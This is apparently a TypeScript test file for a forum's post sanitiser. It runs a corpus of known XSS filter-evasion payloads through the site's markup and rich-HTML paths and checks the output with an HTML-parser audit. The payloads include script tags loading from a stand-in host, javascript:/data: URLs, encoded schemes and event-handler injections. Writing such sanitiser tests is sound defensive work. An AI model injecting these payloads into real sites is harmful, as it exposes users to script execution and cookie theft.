// The stored-XSS corpus (docs/decisions/0030): known payloads of the OWASP XSS filter evasion cheat sheet kind, each
// sent through BOTH ways in (the markup textarea and the rich editor's HTML), and the stored HTML read back by a real
// HTML parser: no script/style/iframe/object/embed/svg/math/template element, no on* attribute, no URL that is not
// http(s) or a path of this site, images only from /uploads, and every link rel="nofollow ugc noopener".
import { Parser } from "htmlparser2";
import { describe, expect, it } from "vitest";
import { bodyHtmlOf, plainTextOf, renderMarkup, sanitizePostHtml } from "./post-body.server";
import { isAllowedHref } from "./post-links";

const payloads = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
  `<script/xss src="https://xss.example/x.js"></script>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=//xss.example/.j>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>`,
  `<a href="jav	ascript:alert('XSS');">tab</a>`,
  `<a href="jav&#x09;ascript:alert('XSS');">tab entity</a>`,
  `<a href="jav&#x0A;ascript:alert('XSS');">newline entity</a>`,
  `<a href=" &#14;  javascript:alert('XSS');">leading junk</a>`,
  `<a href="vbscript:msgbox('XSS')">vb</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">data</a>`,
  `<a href="DATA:text/html,<script>alert(1)</script>">data upper</a>`,
  `<a href="//evil.example/">protocol relative</a>`,
  `<a href="/\\evil.example/">backslash</a>`,
  `<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<svg/onload=alert('XSS')>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<math href="javascript:alert(1)">CLICKME</math>`,
  `<template><script>alert(1)</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<p style="color:red" class="x" id="y">styled</p>`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<iframe srcdoc="<script>alert(1)</script>">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<FORM><BUTTON FORMACTION="javascript:alert(1)">X</BUTTON></FORM>`,
  `<input onfocus=alert(1) autofocus>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror="alert(1)"></video>`,
  `<a href="https://ok.example/" onclick="alert(1)" target="_blank" rel="opener">ok</a>`,
  `<a href="https://ok.example/"" onclick="alert(1)">quote break</a>`,
  `<img src="/uploads/abcdefghijklmnop.png" onerror="alert(1)" alt="x">`,
  `<img src="/uploads/../secret.png">`,
  `<img src="https://evil.example/x.png">`,
  `<b><i><a href="javascript:alert(1)">nested <b>unclosed`,
  `<p><a href='https://ok.example/' title='x' ' onmouseover=alert(1)//'>attr</a>`,
  `"><script>alert(1)</script>`,
  `'';!--"<XSS>=&{()}`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<xss onafterscriptexecute=alert(1)><script>1</script>`,
];

// Markdown-side tricks of the same kind (links and images are the only URL carriers in the markup).
const markupPayloads = [
  `[click](javascript:alert(1))`,
  `[click](JaVaScRiPt:alert(1))`,
  `[click](&#106;avascript:alert(1))`,
  `[click](java\nscript:alert(1))`,
  `[click](vbscript:msgbox(1))`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](//evil.example)`,
  `[click](<javascript:alert(1)>)`,
  `![x](javascript:alert(1))`,
  `![x](https://evil.example/a.png)`,
  `![x" onerror="alert(1)](/uploads/abcdefghijkl.png)`,
  `[a](https://ok.example/ "title\\" onclick=\\"alert(1)")`,
  `<javascript:alert(1)>`,
  `**<img src=x onerror=alert(1)>**`,
];

const forbiddenElements = new Set([
  "script",
  "style",
  "iframe",
  "object",
  "embed",
  "svg",
  "math",
  "template",
  "link",
  "meta",
  "base",
  "form",
  "button",
  "input",
  "details",
  "video",
  "source",
  "body",
  "noscript",
  "xss",
]);

function audit(html: string): string[] {
  const faults: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attribs) {
        if (forbiddenElements.has(name)) faults.push(`element <${name}>`);
        for (const [attribute, value] of Object.entries(attribs)) {
          if (attribute.startsWith("on")) faults.push(`event handler ${attribute}`);
          if (attribute === "style") faults.push("style attribute");
          if (attribute === "href" && !/^(https?:\/\/|\/(?![/\\]))/i.test(value)) faults.push(`href ${value}`);
          if (attribute === "src" && !/^\/uploads\/[A-Za-z0-9_-]+\.(png|jpg|gif|webp)$/.test(value))
            faults.push(`src ${value}`);
          if (!["href", "rel", "src", "alt"].includes(attribute)) faults.push(`attribute ${attribute}`);
        }
        if (name === "a" && attribs.href !== undefined && attribs.rel !== "nofollow ugc noopener")
          faults.push(`rel ${attribs.rel}`);
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  if (/javascript:|vbscript:|data:/i.test(html.replace(/&[a-z]+;|&#\d+;/gi, "").replace(/>[^<]*</g, "><")))
    faults.push("script URL in markup");
  return faults;
}

describe("the XSS corpus through both ways in", () => {
  it.each(payloads)("rich HTML: %s", (payload) => {
    expect(audit(bodyHtmlOf("html", payload))).toEqual([]);
    expect(audit(bodyHtmlOf("html", `<p>前文${payload}后文</p>`))).toEqual([]);
  });

  it.each([...payloads, ...markupPayloads])("markup: %s", (payload) => {
    expect(audit(bodyHtmlOf("markup", payload))).toEqual([]);
    expect(audit(bodyHtmlOf("markup", `# 标题\n\n- ${payload}\n\n> ${payload}`))).toEqual([]);
  });

  it("the audit itself catches what it must (so a sanitiser that let these through would fail)", () => {
    expect(audit(`<script>x</script>`)).toContain("element <script>");
    expect(audit(`<a href="javascript:x" rel="nofollow ugc noopener">a</a>`)).toContain("href javascript:x");
    expect(audit(`<img src="https://evil.example/a.png">`)).toContain("src https://evil.example/a.png");
    expect(audit(`<a href="https://ok.example/">a</a>`)).toContain("rel undefined");
    expect(audit(`<p onclick="x">a</p>`)).toContain("event handler onclick");
  });
});

describe("what the subset keeps", () => {
  it("renders headings (one level down), lists, quotes, links, bold, italic and our images", () => {
    const html = renderMarkup(
      "# 备考\n\n## 数学\n\n- **先**看书\n- *再*做题\n\n1. 一\n2. 二\n\n> 引用\n\n[资讯](/policy) [外链](https://example.com/a)\n\n![笔记](/uploads/AbCdEfGhIjKl_-12.jpg)",
    );
    expect(html).toContain("<h2>备考</h2>");
    expect(html).toContain("<h3>数学</h3>");
    expect(html).toContain("<li><strong>先</strong>看书</li>");
    expect(html).toContain("<em>再</em>");
    expect(html).toContain("<ol>");
    expect(html).toContain("<blockquote>");
    expect(html).toContain('<a href="/policy" rel="nofollow ugc noopener">资讯</a>');
    expect(html).toContain('<a href="https://example.com/a" rel="nofollow ugc noopener">外链</a>');
    expect(html).toContain('<img src="/uploads/AbCdEfGhIjKl_-12.jpg" alt="笔记" />');
  });

  it("keeps typed HTML as text in markup mode, and the rich editor's allowed tags as they are", () => {
    expect(renderMarkup("<b>x</b>")).toBe("<p>&lt;b&gt;x&lt;/b&gt;</p>");
    expect(sanitizePostHtml('<h2>a</h2><p><strong>b</strong><br /><a href="https://x.example/">c</a></p>')).toBe(
      '<h2>a</h2><p><strong>b</strong><br /><a href="https://x.example/" rel="nofollow ugc noopener">c</a></p>',
    );
  });

  it("judges hrefs as a browser reads them", () => {
    expect(isAllowedHref("https://a.example/")).toBe(true);
    expect(isAllowedHref("/square/experience")).toBe(true);
    expect(isAllowedHref(" java\tscript:alert(1)")).toBe(false);
    expect(isAllowedHref("//evil.example")).toBe(false);
    expect(isAllowedHref("/\\evil.example")).toBe(false);
    expect(isAllowedHref("mailto:a@b.c")).toBe(false);
  });

  it("gives the text of a body for summaries and the word check", () => {
    expect(plainTextOf(renderMarkup("# 标题\n\n甲 < 乙 & 丙"))).toBe("标题\n\n甲 < 乙 & 丙");
  });
});
